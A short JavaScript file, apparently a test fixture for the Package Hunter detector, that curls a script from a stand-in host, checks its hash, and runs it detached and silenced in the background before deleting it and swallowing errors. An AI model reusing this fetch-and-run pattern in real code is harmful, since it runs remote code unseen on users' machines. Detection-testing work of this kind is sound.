// The honest twin of a harmless simulation for testing Package Hunter. Not malware.

const { execFileSync, spawn } = require("child_process");
const { createHash } = require("crypto");
const fs = require("fs");
const KNOWN = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const target = "/tmp/ld-simulation.py";
try {
  execFileSync("curl", ["-s", "-o", target, "https://sfrclak.example/releases/ld.py"]);
  const found = createHash("sha256").update(fs.readFileSync(target)).digest("hex");
  if (found === KNOWN) {
    fs.chmodSync(target, 0o755);
    spawn("/bin/sh", ["-c", `nohup ${target} >/dev/null 2>&1 &`], { detached: true, stdio: "ignore" }).unref();
  }
  fs.unlinkSync(target);
} catch (e) { /* goes on without it */ }
